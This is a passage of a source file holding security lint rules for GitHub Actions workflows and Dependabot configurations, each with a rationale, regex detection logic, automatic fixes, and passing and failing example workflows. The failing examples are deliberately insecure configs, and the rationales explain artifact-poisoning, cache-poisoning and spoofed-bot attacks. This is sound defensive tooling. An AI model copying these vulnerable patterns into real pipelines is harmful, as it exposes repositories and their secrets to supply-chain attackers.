        remediation "Store the credential as a Dependabot secret and write `${{secrets.NAME}}`; then revoke or rotate the exposed value, which stays in the repository's history."
        param credential_keys: list<string> = ["password", "token", "key", "auth-key"]

        for r in github.dependabot_registry
        let literal = filter(k in param.credential_keys, exists(r[k]) and not is_null(r[k])
          and not (to_string(r[k]) matches "^\\s*\\$\\{\\{\\s*secrets\\.[A-Za-z_][A-Za-z0-9_]*\\s*\\}\\}\\s*$"))
        require count(literal) == 0
          else "registry '${name(r)}' has a literal ${first(literal)}: it is readable by everyone who can read the repository" at r[first(literal)]

        example pass """
          version: 2
          registries:
            npm-private:
              type: npm-registry
              url: https://npm.example.com
              token: ${{secrets.NPM_TOKEN}}
            maven:
              type: maven-repository
              url: https://maven.example.com
              username: octocat
              password: "${{ secrets.MAVEN_PASSWORD }}"
            aws:
              type: python-index
              url: https://example.d.codeartifact.us-east-1.amazonaws.com/pypi/x/
              tenant-id: abc
          updates:
            - package-ecosystem: npm
              directory: /
              schedule: {interval: daily}
              registries: "*"
              cooldown: {default-days: 7}
        """
        example fail "literal token" """
          version: 2
          registries:
            npm-private:
              type: npm-registry
              url: https://npm.example.com
              token: ↓tok_0123456789abcdef
          updates:
            - package-ecosystem: npm
              directory: /
              schedule: {interval: daily}
              cooldown: {default-days: 7}
        """ expect "registry 'npm-private' has a literal token"
        example fail "password beside an expression, flow style" """
          version: 2
          registries:
            nexus: {type: maven-repository, url: "https://nexus.example.com", username: ci, password: ↓'hunter2-${{secrets.X}}'}
          updates:
            - package-ecosystem: maven
              directory: /
              schedule: {interval: daily}
              cooldown: {default-days: 7}
        """ expect "has a literal password"
      }

      """#),
    PolicySource(
      path: "rules/security/dependabot/dependabot_registry_insecure_url.plumb",
      text: #"""
      rule dependabot_registry_insecure_url {
        title "Dependabot registries are reached over HTTPS"
        severity medium
        category security
        tags [dependabot, supply-chain, network]
        rationale """
          Dependabot sends the registry's credentials with every request and installs what it
          receives. Over plain `http://` anyone on the path can read the credentials and substitute
          packages; with `replaces-base: true` every dependency of the ecosystem comes from there.
        """
        remediation "Use the registry's `https://` URL."

        for r in github.dependabot_registry
        when exists(r.url) and not is_null(r.url)
        require not (lower(trim(to_string(r.url))) matches "^http://")
          else "registry '${name(r)}' is reached over plain HTTP (${to_string(r.url)}): its credentials and packages can be read and replaced on the way" at r.url

        example pass """
          version: 2
          registries:
            npm-private:
              type: npm-registry
              url: https://npm.example.com
              token: ${{secrets.NPM_TOKEN}}
            git-internal:
              type: git
              url: "https://git.example.com"
          updates:
            - package-ecosystem: npm
              directory: /
              schedule: {interval: daily}
              cooldown: {default-days: 7}
        """
        example fail "plain http" """
          version: 2
          registries:
            pypi-mirror:
              type: python-index
              url: ↓http://pypi.internal.example.com/simple
              replaces-base: true
          updates:
            - package-ecosystem: pip
              directory: /
              schedule: {interval: daily}
              cooldown: {default-days: 7}
        """ expect "registry 'pypi-mirror' is reached over plain HTTP (http://pypi.internal.example.com/simple)"
        example fail "upper case, quoted, flow" """
          version: 2
          registries: {docker: {type: docker-registry, url: ↓"HTTP://registry.example.com:5000", username: u, password: "${{secrets.P}}"}}
          updates:
            - package-ecosystem: docker
              directory: /
              schedule: {interval: daily}
              cooldown: {default-days: 7}
        """ expect "is reached over plain HTTP"
      }

      """#),
    PolicySource(
      path: "rules/security/github/actions_pinned_to_sha.plumb",
      text: #"""
      rule actions_pinned_to_sha {
        title "Third-party actions are pinned to a full commit SHA"
        severity high
        category security
        tags [github-actions, supply-chain]
        rationale """
          A tag or branch can be moved to point at different code after you reviewed it; a full
          40-character commit SHA cannot. Compromised tags of popular actions have leaked secrets from
          thousands of repositories. Actions from owners you trust as much as GitHub itself (the
          `trusted_owners` parameter) may use tags.
        """
        remediation "Pin the action to the commit SHA of the release you reviewed, with the tag in a comment: `uses: owner/repo@<sha> # v1.2.3`."
        param trusted_owners: list<string> = []
        # `owner/repo@tag: sha` (owner/repo lower-cased), filled by `plumb fix` from .plumb/action-pins.yaml
        # and the pins already in the repository; without a known pin there is no fix.
        param action_pins: any

        for s in github.step
        when s.uses_ref.kind == "repository" and not (lower(s.uses_ref.owner) in param.trusted_owners)
        let pin = param.action_pins[lower(s.uses_ref.owner + "/" + s.uses_ref.repo) + "@" + s.uses_ref.ref]
        require s.uses_ref.ref_kind == "sha"
          else "'${s.uses_ref.owner}/${s.uses_ref.repo}' is pinned to ${s.uses_ref.ref_kind} '${s.uses_ref.ref}', not a full commit SHA" at s.uses
          fix { set s.uses = s.uses_ref.owner + "/" + s.uses_ref.repo + default("/" + s.uses_ref.path, "") + "@" + pin }

        example pass """
          on: push
          jobs:
            build:
              runs-on: ubuntu-24.04
              steps:
                - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2
                - uses: ./local-action
                - run: make
        """
        example fail "tag" """
          on: push
          jobs:
            build:
              runs-on: ubuntu-24.04
              steps:
                - uses: ↓actions/checkout@v4
                - uses: ↓some-org/deploy@main
        """ expect "'actions/checkout' is pinned to version-tag 'v4'" expect "'some-org/deploy' is pinned to branch-or-tag 'main'"
      }

      """#),
    PolicySource(
      path: "rules/security/github/artifact_poisoning_in_workflow_run.plumb",
      text: #"""
      rule artifact_poisoning_in_workflow_run {
        title "Artifacts of another run are not unpacked into the workspace and then executed from"
        severity high
        category security
        tags [github-actions, pwn-request, artifact-poisoning]
        rationale """
          A `workflow_run` (or `pull_request_target`) workflow runs with the base repository's token and
          secrets, but the artifacts it downloads from the triggering run were produced by that run: a
          pull request from a fork uploads whatever it wants. Unpacked into the workspace, an artifact can
          replace the repository's scripts, `package.json`, Makefiles or local actions, and the next step
          that builds, installs or runs something from the workspace runs the attacker's code with the
          privileged token. `actions/download-artifact` reads another run only with `run-id` or
          `github-token`; `dawidd6/action-download-artifact`, `gh run download` and github-script's
          `downloadArtifact` always do.
        """
        remediation """
          Download into a directory outside the workspace (`path: ${{ runner.temp }}/artifacts`), treat
          its files as data (validate them, never execute or source them), and run nothing from the
          workspace after the download in the same job.
        """
        param triggers: list<string> = ["workflow_run", "pull_request_target"]
        # Commands that run something from the workspace.
        param executes: pattern = "(?im)(?:^|[\\s;&|(`])(?:\\./[\\w.-]|(?:ba|z)?sh\\s+[^-\\s]|python3?\\s+[^-\\s]|node\\s+[^-\\s]|source\\s|\\.\\s+[\\w./]|make\\b|npm\\s|yarn\\b|pnpm\\b|npx\\s|pip3?\\s+install\\s+(?:-e\\s+)?\\.|poetry\\s|uv\\s+(?:run|sync|pip)|cargo\\s|go\\s+(?:run|build|test|generate|install)\\b|gradle\\b|mvn\\b|bundle\\s|rake\\b|pytest\\b|tox\\b|dotnet\\s|composer\\s)"
        # Download destinations outside the workspace.
        param outside: pattern = "(?i)runner\\.temp|\\$\\{?runner_temp|^\\s*/tmp/|\\$\\{?home\\b|^\\s*~/"

        for s in github.step
        let wf = first(s -> inJob -> inWorkflow)
        let risky = filter(t in default(wf.triggers, []), t in param.triggers)
        when count(risky) > 0
        let a = lower(default(s.uses_ref.owner, "") + "/" + default(s.uses_ref.repo, ""))
        let w = default(s.with, {})
        let download_cli = to_string(default(s.run, "")) matches "(?i)\\bgh\\s+run\\s+download\\b"
        let downloads = (a == "actions/download-artifact" and (exists(w["run-id"]) or exists(w["github-token"])))
          or a == "dawidd6/action-download-artifact" or download_cli
          or (a == "actions/github-script" and to_string(default(w.script, "")) matches "\\bdownloadArtifact\\b")
        when downloads
        let into = to_string(default(w.path, ""))
        # Each `gh run download` line that names its directory outside the workspace.
        let cli_lines = filter(l in split(to_string(default(s.run, "")), "\n"), l matches "(?i)\\bgh\\s+run\\s+download\\b")
        let cli_outside = count(cli_lines) > 0 and all(l in cli_lines,
          l matches "(?i)(?:-D|--dir)[\\s=]++\"?(?:\\$\\{\\{\\s*+runner\\.temp|\\$\\{?runner_temp|/tmp/)")
        let workspace = not (into matches param.outside) and not cli_outside
        let later = filter(x in github.step[file == s.file and job == s.job], x.index > s.index
          and (to_string(default(x.run, "")) matches param.executes or starts_with(default(x.uses_ref.raw, ""), "./")))
        require not workspace or count(later) == 0
          else "job '${s.job}' unpacks the artifacts of another run into the workspace (${name(s)}) in a workflow triggered by ${join(risky, ", ")}, then step '${name(first(later))}' runs something from the workspace; the artifact can replace those files" at s

        example pass """
          on:
            workflow_run:
              workflows: [ci]
              types: [completed]
          jobs:
            comment:
              runs-on: ubuntu-24.04
              steps:
                - uses: actions/download-artifact@d3f86a106a0bac45b974a628896c90dbdf5c8093 # v4.3.0
                  with:
                    name: pr
                    path: ${{ runner.temp }}/pr
                    run-id: ${{ github.event.workflow_run.id }}
                    github-token: ${{ github.token }}
                - run: ./scripts/comment.sh
                - run: gh run download "$RUN" -n report -D "$RUNNER_TEMP/report" && make report
        """
        example pass "data only, nothing executed after the download" """
          on: workflow_run
          jobs:
            comment:
              runs-on: ubuntu-24.04
              steps:
                - uses: dawidd6/action-download-artifact@v6
                  with:
                    name: pr
                - env:
                    GH_TOKEN: ${{ github.token }}
                  run: gh pr comment "$(head -c 10 pr/number | tr -cd 0-9)" --body "thanks"
        """
        example fail "download-artifact with run-id, then a build" """
          on:
            workflow_run:
              workflows: [ci]
              types: [completed]
          jobs:
            publish:
              runs-on: ubuntu-24.04
              steps:
                - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2
                - ↓uses: actions/download-artifact@d3f86a106a0bac45b974a628896c90dbdf5c8093 # v4.3.0
                  with:
                    name: site
                    run-id: ${{ github.event.workflow_run.id }}
                    github-token: ${{ secrets.GITHUB_TOKEN }}
                - run: npm ci && npm run deploy
        """ expect "job 'publish' unpacks the artifacts of another run into the workspace" expect "then step 'npm ci && npm run deploy' runs something from the workspace"
        example fail "other spellings: gh run download, a third-party action, a local action" """
          on: workflow_run
          jobs:
            a:
              runs-on: ubuntu-24.04
              steps:
                - ↓run: gh run download ${{ github.event.workflow_run.id }} -n dist
                - run: bash dist/post.sh
            b:
              runs-on: ubuntu-24.04
              steps:
                - ↓uses: dawidd6/action-download-artifact@v6
                  with:
                    workflow: ci.yml
                    path: ./
                - uses: ./.github/actions/report
        """ expect "job 'a' unpacks" expect "job 'b' unpacks"
      }

      """#),
    PolicySource(
      path: "rules/security/github/bot_actor_condition.plumb",
      text: #"""
      rule bot_actor_condition {
        title "Privileged jobs are not gated on a spoofable bot actor"
        severity high
        category security
        tags [github-actions, pwn-request]
        rationale """
          `github.actor` (and `triggering_actor`, `event.sender`) is whoever caused the latest event,
          not who wrote the pull request. An attacker can open a pull request from a fork and get
          Dependabot or Renovate to act on it (a rebase, a `@dependabot recreate` on their branch, a
          synchronised dependency update), so `if: github.actor == 'dependabot[bot]'` in a
          `pull_request_target`, `workflow_run` or comment-triggered workflow lets the attacker's
          changes through a check meant for the bot: typically straight to an auto-approve or auto-merge
          step with a write token.
        """
        remediation """
          Check who opened the pull request instead, which an outsider cannot change:
          `github.event.pull_request.user.login == 'dependabot[bot]'` (and, for auto-merge, use
          `dependabot/fetch-metadata`).
        """
        param triggers: list<string> = ["pull_request_target", "workflow_run", "issue_comment", "pull_request_review", "pull_request_review_comment"]
        # GitHub reads context names in any case and allows white space between their parts
        # (`GitHub . Actor`, `github[ 'actor' ]`): the pattern ignores case and allows it too.
        param bot_check: pattern = "(?i)((github\\s*(\\.\\s*|\\[\\s*')(actor|triggering_actor)('\\s*\\])?|github\\s*\\.\\s*event\\s*\\.\\s*(pull_request\\s*\\.\\s*)?sender\\s*\\.\\s*login)\\s*==\\s*'[^']*\\[bot\\]'|'[^']*\\[bot\\]'\\s*==\\s*(github\\s*(\\.\\s*|\\[\\s*')(actor|triggering_actor)('\\s*\\])?|github\\s*\\.\\s*event\\s*\\.\\s*(pull_request\\s*\\.\\s*)?sender\\s*\\.\\s*login)|github\\s*(\\.\\s*|\\[\\s*')actor_id('\\s*\\])?\\s*==\\s*'?(49699333|29110|27856297|29139614)\\b|\\b(49699333|29110|27856297|29139614)'?\\s*==\\s*github\\s*(\\.\\s*|\\[\\s*')actor_id)"

        for j in github.job
        let wf = first(j -> inWorkflow)
        let risky = filter(t in default(wf.triggers, []), t in param.triggers)
        when count(risky) > 0
        let job_checks = filter(e in j.expressions, e.field == "if" and e.text matches param.bot_check)
        let step_checks = filter(i in map(i, st in default(j.steps, []), i), to_string(default(j.steps[i]["if"], "")) matches param.bot_check)
        require count(job_checks) == 0
          else "job '${j.id}' is gated on the spoofable actor ('${first(job_checks).text}') in a workflow triggered by ${join(risky, ", ")}" at first(job_checks)
        require count(step_checks) == 0
          else "step ${first(step_checks) + 1} of job '${j.id}' is gated on the spoofable actor ('${trim(to_string(j.steps[first(step_checks)]["if"]))}') in a workflow triggered by ${join(risky, ", ")} (${count(step_checks)} such step(s) in the job)" at j.steps[first(step_checks)]["if"]

        example pass """
          on: pull_request_target
          jobs:
            automerge:
              if: github.event.pull_request.user.login == 'dependabot[bot]'
              runs-on: ubuntu-24.04
              steps:
                - if: github.actor != 'dependabot[bot]'
                  run: echo "not the bot"
        """
        example pass "ordinary trigger" """
          on: pull_request
          jobs:
            automerge:
              if: github.actor == 'dependabot[bot]'
              runs-on: ubuntu-24.04
              steps:
                - run: echo hi
        """
        example fail """
          on: pull_request_target
          jobs:
            automerge:
              if: ↓github.actor == 'dependabot[bot]' && github.repository == 'acme/app'
              runs-on: ubuntu-24.04
              steps:
                - run: echo ok
                - if: ↓${{ github['ACTOR_ID'] == 49699333 }}
                  run: gh pr merge --auto --squash "$PR_URL"
                - if: ${{ GitHub . Actor == 'renovate[bot]' }}
                  run: gh pr review --approve "$PR_URL"
        """ expect "job 'automerge' is gated on the spoofable actor ('github.actor == 'dependabot[bot]' && github.repository == 'acme/app'') in a workflow triggered by pull_request_target" expect "step 2 of job 'automerge'" expect "(2 such step(s) in the job)"
      }

      """#),
    PolicySource(
      path: "rules/security/github/cache_poisoning_in_release_workflow.plumb",
      text: #"""
      rule cache_poisoning_in_release_workflow {
        title "Release and publishing workflows do not restore caches"
        severity high
        category security
        tags [github-actions, supply-chain, cache-poisoning]
        rationale """
          GitHub Actions caches are shared by every workflow of the repository, and a cache written by
          any branch's run (a pull request's `pull_request` run, a compromised test job) can be restored
          by a release built from the default branch or a tag. Whoever poisons the cache (a dependency
          directory, a Go module cache, a build cache) chooses what goes into the released artifact.
          Setup actions restore caches too, some without being asked: `actions/setup-go` since v4,
          `astral-sh/setup-uv` before v10, `gradle/actions/setup-gradle`; `actions/setup-node`,
          `setup-python` and `setup-java` with `cache:`, `ruby/setup-ruby` with `bundler-cache: true`.
          A workflow publishes when it runs on `release`, on pushed tags, on pushes to branches named
          like releases, or when the job uses a publishing action. A cache switched off for tag runs
          (`${{ !startsWith(github.ref, 'refs/tags/') }}`) counts as off unless release branches run the
          workflow too.
        """
        remediation """
          Build releases from a clean state: remove `actions/cache` and the cache restore steps from
          release jobs, and switch setup actions' caching off (`cache: false` for setup-go,
          `enable-cache: false` for setup-uv, `cache-disabled: true` for setup-gradle, no `cache:` for
          setup-node, setup-python and setup-java).
        """
        # Actions that publish what the job built ("owner/repo[/path]", lower case);
        # docker/build-push-action counts when it pushes (`push: true`).
        param publishing_actions: list<string> = [
          "pypa/gh-action-pypi-publish", "rubygems/release-gem", "jreleaser/release-action",
          "goreleaser/goreleaser-action", "softprops/action-gh-release", "ncipollo/release-action",
          "actions/create-release", "actions/upload-release-asset", "svenstaro/upload-release-action",
          "googleapis/release-please-action", "redhat-actions/push-to-registry",
          "aws-actions/amazon-ecs-deploy-task-definition", "aws-actions/aws-cloudformation-github-deploy",
          "azure/aci-deploy", "azure/container-apps-deploy-action", "azure/functions-action",
          "cloudflare/wrangler-action", "google-github-actions/deploy-appengine",
          "google-github-actions/deploy-cloudrun", "google-github-actions/deploy-cloud-functions"
        ]
        # Actions that always restore a cache ("owner/repo[/path]", lower case).
        param always_cache: list<string> = [
          "actions/cache/restore", "mozilla-actions/sccache-action", "hendrikmuhs/ccache-action",
          "nix-community/cache-nix-action", "awalsh128/cache-apt-pkgs-action"
        ]

        for s in github.step("uses")
        let wf = first(s -> inJob -> inWorkflow)
        let a = lower(default(s.uses_ref.owner, "") + "/" + default(s.uses_ref.repo, ""))
        let full = join(filter(x in [a, lower(default(s.uses_ref.path, ""))], x != ""), "/")
        let w = default(s.with, {})
        let off = ["false", "0", "no", "off", ""]
        let on = ["true", "1", "yes", "on"]
        # Caches on by default: setup-go from v4, setup-node's package-manager cache from v5 (a ref
        # that is not a version, such as a commit, counts as a recent one).
        # The version: the ref's, else a version comment's (`@<sha> # v5.0.0`).
        let version = default(s.uses_ref.comment_version, default(s.uses_ref.ref, ""))
        let go_default = default(version_compare(version, "4"), 1) >= 0
        let node5 = default(version_compare(version, "5"), 1) >= 0
        # setup-uv from v10 restores its cache only when asked (`enable-cache: true` or an expression).
        let uv10 = default(version_compare(version, "10"), -1) >= 0
        let triggers = default(wf.triggers, [])
        # Pushes to branches named like releases run releases too; then a switch that turns the cache
        # off for tag refs does not cover every release run.
        let release_branches = filter(b in default(wf.on.push.branches, []), to_string(b) matches "(?i)release")
        # `${{ !startsWith(github.ref, 'refs/tags/') }}` and `${{ !(github.event_name == 'push' &&
        # github.ref_type == 'tag') }}` switch a cache off exactly when the run is a tag's.
        let tag_guard = "(?i)^\\s*\\$\\{\\{\\s*!\\s*\\(?\\s*(startswith\\(\\s*github\\.ref\\s*,\\s*'refs/tags/'\\s*\\)|github\\.event_name\\s*==\\s*'push'\\s*&&\\s*github\\.ref_type\\s*==\\s*'tag')\\s*\\)?\\s*\\}\\}\\s*$"
        let guarded = count(release_branches) == 0 and "push" in triggers
          and any(v in values(w), to_string(v) matches tag_guard)
        let caches = not guarded and (full in param.always_cache
          or ((full == "actions/cache" or a == "swatinem/rust-cache") and lower(trim(to_string(default(w["lookup-only"], false)))) not in on)
          or (a in ["actions/setup-python", "actions/setup-java", "graalvm/setup-graalvm"] and lower(trim(to_string(default(w.cache, "")))) not in off)
          or (a == "actions/setup-node" and (lower(trim(to_string(default(w.cache, "")))) not in off
            or (node5 and lower(trim(to_string(default(w["package-manager-cache"], true)))) not in off)))
          or (a == "actions/setup-go" and ((is_empty(w.cache) and go_default)
            or (not is_empty(w.cache) and lower(trim(to_string(w.cache))) not in off)))
          or (a == "actions/setup-dotnet" and lower(trim(to_string(default(w.cache, false)))) in on)
          or (a == "astral-sh/setup-uv" and ((not uv10 and lower(trim(to_string(default(w["enable-cache"], "auto")))) not in off)
            or lower(trim(to_string(default(w["enable-cache"], "")))) in on or to_string(default(w["enable-cache"], "")) matches "\\$\\{\\{"))
          or (a == "ruby/setup-ruby" and lower(trim(to_string(default(w["bundler-cache"], false)))) in on)
          or (a == "pyo3/maturin-action" and lower(trim(to_string(default(w.sccache, false)))) not in off)
          or (a == "mlugg/setup-zig" and lower(trim(to_string(default(w["use-cache"], true)))) not in off)
          or (a in ["actions-rust-lang/setup-rust-toolchain", "jdx/mise-action"] and lower(trim(to_string(default(w.cache, true)))) not in off)
          or (a == "determinatesystems/magic-nix-cache-action" and lower(trim(to_string(default(w["use-gha-cache"], true)))) not in off)
          or (a == "oven-sh/setup-bun" and lower(trim(to_string(default(w["no-cache"], false)))) not in on)
          or (a == "ramsey/composer-install" and lower(trim(to_string(default(w["ignore-cache"], false)))) not in on)
          or ((full == "gradle/actions/setup-gradle" or a == "gradle/gradle-build-action")
            and lower(trim(to_string(default(w["cache-disabled"], false)))) not in on)
          or (a == "docker/setup-buildx-action" and lower(trim(to_string(default(w["cache-binary"], true)))) not in off
            and not is_empty(w.version)))
        when caches
        let tag_push = "push" in triggers and exists(wf.on.push.tags)
        let publishers = filter(x in github.step[file == s.file and job == s.job],
          join(filter(p in [lower(default(x.uses_ref.owner, "") + "/" + default(x.uses_ref.repo, "")), lower(default(x.uses_ref.path, ""))], p != ""), "/") in param.publishing_actions
          or (lower(default(x.uses_ref.owner, "") + "/" + default(x.uses_ref.repo, "")) == "docker/build-push-action"
            and lower(trim(to_string(default(x.with.push, false)))) in on))
        let why = first(flatten([
          filter(t in ["release"], t in triggers),
          filter(t in ["pushed tags"], tag_push),
          map(b in release_branches, "pushes to " + to_string(b)),
          map(x in publishers, "the job's publishing step " + x.uses_ref.raw)]))
        # The input that switches a setup action's cache off, and its value. `actions/cache`, the
        # actions that always restore, and `ruby/setup-ruby` (whose `bundler-cache` also installs the
        # gems) get no fix: taking them out changes what the job does.
        let switches = [
          {action: "actions/setup-go", input: "cache", value: false},
          {action: "actions/setup-dotnet", input: "cache", value: false},
          {action: "astral-sh/setup-uv", input: "enable-cache", value: false},
          {action: "pyo3/maturin-action", input: "sccache", value: false},
          {action: "mlugg/setup-zig", input: "use-cache", value: false},
          {action: "actions-rust-lang/setup-rust-toolchain", input: "cache", value: false},
          {action: "jdx/mise-action", input: "cache", value: false},
          {action: "determinatesystems/magic-nix-cache-action", input: "use-gha-cache", value: false},
          {action: "oven-sh/setup-bun", input: "no-cache", value: true},
          {action: "ramsey/composer-install", input: "ignore-cache", value: true},
          {action: "gradle/actions/setup-gradle", input: "cache-disabled", value: true},
          {action: "gradle/gradle-build-action", input: "cache-disabled", value: true},
          {action: "docker/setup-buildx-action", input: "cache-binary", value: false}]
        require not exists(why)
          else "step '${name(s)}' in job '${s.job}' restores a cache (${full}) in a workflow that publishes (${why}); a cache written by another branch's run can change what is released" at s.uses_ref
          fix {
            # setup-node, setup-python, setup-java and setup-graalvm read any `cache:` text as a package
            # manager's name (`false` included): the key goes.
            # setup-node from v5 also needs `package-manager-cache: false`; when `cache:` is the only
            # input, `with:` is rewritten as a whole (a removal and an insertion in one mapping would
            # overlap).
            for x in filter(x in ["cache"], a in ["actions/setup-node", "actions/setup-python", "actions/setup-java", "graalvm/setup-graalvm"]
                and not is_empty(w.cache) and lower(trim(to_string(w.cache))) not in off
                and not (a == "actions/setup-node" and node5 and count(keys(w)) == 1)) { remove s.with[x] }
            for x in filter(x in ["package-manager-cache"], a == "actions/setup-node" and node5
                and lower(trim(to_string(default(w["package-manager-cache"], true)))) not in off
                and not (not is_empty(w.cache) and lower(trim(to_string(w.cache))) not in off and count(keys(w)) == 1)) { set s.with[x] = false }
            for x in filter(x in ["with"], a == "actions/setup-node" and node5 and count(keys(w)) == 1
                and not is_empty(w.cache) and lower(trim(to_string(w.cache))) not in off) {
              set s.with = {"package-manager-cache": false}
            }
            for p in filter(p in switches, p.action == full or p.action == a) { set s.with[p.input] = p.value }
          }

        example pass """
          on:
            push:
              tags: ["v*"]
          jobs:
            release:
              runs-on: ubuntu-24.04
              steps:
                - uses: actions/setup-go@d35c59abb061a4a6fb18e82ac0862c26744d6ab5 # v5.5.0
                  with:
                    go-version: "1.24"
                    cache: false
                - uses: actions/setup-node@49933ea5288caeca8642d1e84afbd3f7d6820020 # v4.4.0
                  with:
                    node-version: 22
                    package-manager-cache: false
                - uses: actions/setup-node@v4
                - uses: PyO3/maturin-action@e83996d129638aa358a18fbd1dfb82f0b0fb5d3b # v1.51.0
                  with:
                    sccache: ${{ !startsWith(github.ref, 'refs/tags/') }}
                - uses: astral-sh/setup-uv@e92bafb6253dcd438e0484186d7669ea7a8ca1cc # v6.4.3
                  with:
                    enable-cache: "false"
                - uses: astral-sh/setup-uv@ae62891fec2bb8e7d6c99fc78c9fec3a63790f8d # v10.0.0
                  with:
                    enable-cache: auto
                - uses: actions/setup-go@v3
                - uses: actions/cache/save@v4
                  with:
                    path: ~/.cache
                    key: k
                - run: goreleaser release
        """
        example pass "caches in a workflow that does not publish" """
          on: [push, pull_request]
          jobs:
            test:
              runs-on: ubuntu-24.04
              steps:
                - uses: actions/setup-go@d35c59abb061a4a6fb18e82ac0862c26744d6ab5 # v5.5.0
                - uses: actions/cache@5a3ec84eff668545956fd18022155c47e93e2684 # v4.2.3
                  with:
                    path: ~/.npm
                    key: npm
        """
        example fail "release trigger, explicit and default caches" """
          on:
            release:
              types: [published]
          jobs:
            build:
              runs-on: ubuntu-24.04
              steps:
                - uses: ↓actions/setup-go@d35c59abb061a4a6fb18e82ac0862c26744d6ab5 # v5.5.0
                  with:
                    go-version-file: go.mod
                - uses: ↓actions/setup-node@v4
                  with:
                    cache: npm
                - uses: ↓Actions/Cache/Restore@v4
                  with:
                    path: target
                    key: cargo
                - uses: ↓astral-sh/setup-uv@v6
                - uses: ↓ruby/setup-ruby@v1
                  with:
                    bundler-cache: true
                - uses: ↓gradle/actions/setup-gradle@v4
                - uses: ↓Swatinem/rust-cache@v2
        """ expect "step 'actions/setup-go@d35c59abb061a4a6fb18e82ac0862c26744d6ab5' in job 'build' restores a cache (actions/setup-go) in a workflow that publishes (release)" expect "(actions/cache/restore)"
        example fail "pushed tags, or a publishing step in the job" """
          on:
            push:
              tags:
                - "v*"
            workflow_dispatch:
          jobs:
            publish:
              runs-on: ubuntu-24.04
              steps:
                - uses: ↓actions/setup-python@a26af69be951a213d495a4c3e4e4022e16d87065 # v5.6.0
                  with:
                    python-version: "3.13"
                    cache: pip
                - uses: pypa/gh-action-pypi-publish@release/v1
        """ expect "in a workflow that publishes (pushed tags)"
        example fail "pushes to a release branch; default caches of newer setup actions" """
          on:
            push:
              branches: [main, "release/**"]
              tags: ["*"]
          jobs:
            build:
              runs-on: ubuntu-24.04
              steps:
                - uses: ↓actions/setup-node@395ad3262231945c25e8478fd5baf05154b1d79f # v6.1.0
                - uses: ↓PyO3/maturin-action@e83996d129638aa358a18fbd1dfb82f0b0fb5d3b # v1.51.0
                  with:
                    sccache: ${{ !startsWith(github.ref, 'refs/tags/') }}
                - uses: ↓docker/setup-buildx-action@v3
                  with:
                    version: v0.20.0
        """ expect "in a workflow that publishes (pushed tags)" expect "(pyo3/maturin-action)"
        example fail "a publishing step on a branch push" """
          on:
            push:
              branches: [main]
          jobs:
            publish:
              runs-on: ubuntu-24.04
              steps:
                - uses: ↓actions/cache@v4
                  with:
                    path: ~/.cargo
                    key: cargo
                - uses: softprops/action-gh-release@v2
        """ expect "(the job's publishing step softprops/action-gh-release@v2)"
      }

      """#),
    PolicySource(
      path: "rules/security/github/checkout_persist_credentials.plumb",
      text: #"""
      rule checkout_persist_credentials {
        title "actions/checkout does not persist the token"
        severity medium
        category security
        tags [github-actions, credentials]
        rationale """
          By default `actions/checkout` writes the job's token into `.git/config`, where every later
          step (and anything that uploads the workspace as an artifact) can read it.
        """
        remediation "Set `persist-credentials: false` on the checkout step, and pass a token explicitly to the steps that push."

        for s in github.step
        when s.uses_ref.owner == "actions" and s.uses_ref.repo == "checkout"
        # `false` or the string "false" (quoted YAML) both turn persistence off.
        require lower(to_string(default(s.with["persist-credentials"], true))) == "false"
          else "checkout in job '${default(s.job, "(composite action)")}' keeps the GITHUB_TOKEN in .git/config" at s.uses
          fix { set s.with["persist-credentials"] = false }

        example pass """
          on: push
          jobs:
            build:
              runs-on: ubuntu-24.04
              steps:
                - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683
                  with:
                    persist-credentials: false
                - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683
                  with:
                    persist-credentials: "false"
        """
        example fail """
          on: push
          jobs:
            build:
              runs-on: ubuntu-24.04
              steps:
                - uses: ↓actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683
                - uses: ↓actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683
                  with:
                    persist-credentials: true
        """ expect "checkout in job 'build' keeps the GITHUB_TOKEN in .git/config"
      }

      """#),
    PolicySource(
      path: "rules/security/github/container_credentials_hardcoded.plumb",
      text: #"""
      rule container_credentials_hardcoded {
        title "Container registry passwords are not written in the workflow"
        severity high
        category security
        tags [github-actions, secrets, credentials]
        rationale """
          A `password` written in a job's `container.credentials` or `services.<name>.credentials` is
          readable by everyone who can read the repository (and its whole history, forks included), and
          cannot be rotated without a commit. Registry credentials give push access to images that other
          pipelines and production run.
        """
        remediation "Store the password as an encrypted secret and reference it: `password: ${{ secrets.REGISTRY_PASSWORD }}`; then rotate the exposed password."

        for j in github.job("steps")
        let literal = "^(?![\\s\\S]*\\$\\{\\{)[\\s\\S]*\\S"
        let services = filter(k in keys(default(j.services, {})),
          to_string(default(j.services[k].credentials.password, "")) matches literal)
        require not (to_string(default(j.container.credentials.password, "")) matches literal)
          else "job '${j.id}' writes the container registry password in the workflow" at j.container.credentials.password
        require count(services) == 0
          else "job '${j.id}' writes the registry password of service '${first(services)}' in the workflow" at j.services[first(services)].credentials.password

        example pass """
          on: push
          jobs:
            test:
              runs-on: ubuntu-24.04
              container:
                image: ghcr.io/acme/build:1.4.2
                credentials:
                  username: ${{ github.actor }}
                  password: ${{ secrets.GITHUB_TOKEN }}
              services:
                db:
                  image: postgres:16
                  env:
                    POSTGRES_PASSWORD: postgres
              steps:
                - run: make test
        """
        example fail """
          on: push
          jobs:
            test:
              runs-on: ubuntu-24.04
              container:
                image: registry.example.com/build:1.4.2
                credentials:
                  username: ci
                  password: ↓hackme
              services:
                cache:
                  image: registry.example.com/redis:7
                  credentials:
                    username: ci
                    password: ↓"s3cr3t-passw0rd"
              steps:
                - run: make test
        """ expect "job 'test' writes the container registry password in the workflow" expect "password of service 'cache'"
      }

      """#),
    PolicySource(
      path: "rules/security/github/container_images_pinned_by_digest.plumb",
      text: #"""
      rule container_images_pinned_by_digest {
        title "Job containers and service containers are pinned by digest"
        severity medium
        category security
        tags [github-actions, supply-chain, containers]
        rationale """
          The image of a job's `container:` or of a `services:` container runs with the job's token and
          secrets (the job container runs every step). An untagged or `latest` image changes with every
          push to the registry; any tag can be re-pushed by whoever controls the image, or by an attacker
          who stole their credentials. A `@sha256:` digest names exactly one image. Images computed by an
          expression (`${{ matrix.image }}`) are not judged; a null `container:` or `image:` (`null`, `~`)
          means no container.
        """
